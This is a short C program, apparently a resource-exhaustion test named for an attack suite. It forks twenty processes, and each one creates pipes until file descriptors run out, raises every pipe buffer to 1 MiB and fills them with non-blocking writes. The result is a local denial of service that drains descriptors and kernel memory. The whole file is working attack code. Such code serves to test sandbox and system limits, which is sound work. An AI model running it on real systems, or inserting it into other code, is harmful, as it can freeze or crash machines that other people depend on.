/* Takes all descriptors, and all pipes with the largest buffers, in many processes. */
#include "attack.h"

int main(void)
{
	static char block[65536];
	int ends[2];

	for (int i = 0; i < 20; i++)
		if (fork() == 0)
			break;
	while (pipe(ends) == 0) {
		fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
		fcntl(ends[1], F_SETFL, O_NONBLOCK);
		while (write(ends[1], block, sizeof(block)) > 0)
			continue;
	}
	return dup(0) >= 0;
}
